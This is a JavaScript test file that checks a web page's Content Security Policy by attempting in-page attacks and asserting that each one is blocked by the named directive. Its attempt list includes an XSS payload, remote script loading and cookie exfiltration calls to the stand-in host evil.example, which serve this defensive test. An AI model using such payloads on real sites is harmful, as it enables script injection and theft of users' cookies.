// The page's policy, attacked from inside: even a script that came in could load nothing, tell
// nobody, and make no code of words.

import assert from "node:assert/strict";
import { suite, test } from "node:test";
import { eventually, openDoors } from "../support/person.js";

const { world, visit } = await openDoors();

/** What somebody would try, and the rule that it breaks. @type {[rule: string, attempt: () => unknown][]} */
const ATTEMPTS = [
  ["script-src-elem", () => import(String("https://evil.example/x.js"))],
  [
    "require-trusted-types-for",
    () => {
      document.body.innerHTML = "<img src=x onerror=alert(1)>";
    },
  ],
  ["require-trusted-types-for", () => add("script", {}, "alert(1)")],
  ["require-trusted-types-for", () => setTimeout("alert(1)")],
  ["require-trusted-types-for", () => navigator.serviceWorker.register("https://evil.example/")],
  ["trusted-types", () => Object(globalThis).trustedTypes.createPolicy("mine", {})],
  ["connect-src", () => fetch("https://evil.example/?cookie")],
  ["connect-src", () => new WebSocket("wss://evil.example/")],
  ["connect-src", () => navigator.sendBeacon("https://evil.example/")],
  ["img-src", () => add("img", { src: "https://evil.example/?words" })],
  ["style-src-elem", () => add("style", {}, "body { display: none }")],
  ["style-src-elem", () => add("link", { rel: "stylesheet", href: "https://evil.example/" })],
  ["style-src-attr", () => document.body.setAttribute("style", "display: none")],
  ["frame-src", () => add("iframe", { src: "https://evil.example/" })],
  ["media-src", () => add("audio", { src: "https://evil.example/" })],
  ["base-uri", () => add("base", { href: "https://evil.example/" })],
];

/** The page's own `add`, see below. @type {(tag: string, properties: object, text?: string) => void} */
const add = () => {};

suite("The policy", () => {
  test("It refuses whatever somebody would try from inside", async () => {
    const ada = await visit("fort", { serviceWorkers: "allow" });
    /** @type {Set<string | undefined>} */
    const failures = new Set();
    ada.page.on("requestfailed", (request) => failures.add(request.failure()?.errorText));
    await ada.page.evaluate(() => {
      /** @type {string[]} */
      const broken = [];
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
        broken.push(effectiveDirective),
      );
      /** @param {string} tag @param {object} properties @param {string} [text] */
      const add = (tag, properties, text = "") => {
        const element = Object.assign(document.createElement(tag), properties);
        element.append(text);
        document.head.append(element);
      };
      Object.assign(globalThis, { broken, add });
    });
    for (const [rule, attempt] of ATTEMPTS) {
      await ada.page.evaluate(attempt).catch(() => {});
      await eventually(async () => {
        const broken = await ada.page.evaluate(() => Object(globalThis).broken.at(-1));
        assert.equal(broken, rule, String(attempt));
      });
      await ada.page.evaluate(() => Object(globalThis).broken.splice(0));
    }
    assert.deepEqual([...failures], ["csp"], "something failed only for want of a network");
    await ada.say("All is well");
    await ada.reads("All is well");
  });

  test("Another site cannot show the page in a frame, nor does a form lead out of it", async () => {
    for (const address of ["/", "/r/fort", "/nowhere"]) {
      const response = await world.get(address);
      const policy = String(response.headers.get("content-security-policy"));
      assert.match(policy, /frame-ancestors 'none'/);
      assert.match(policy, /form-action 'none'/);
      assert.doesNotMatch(policy, /unsafe|\*/);
    }
  });
});
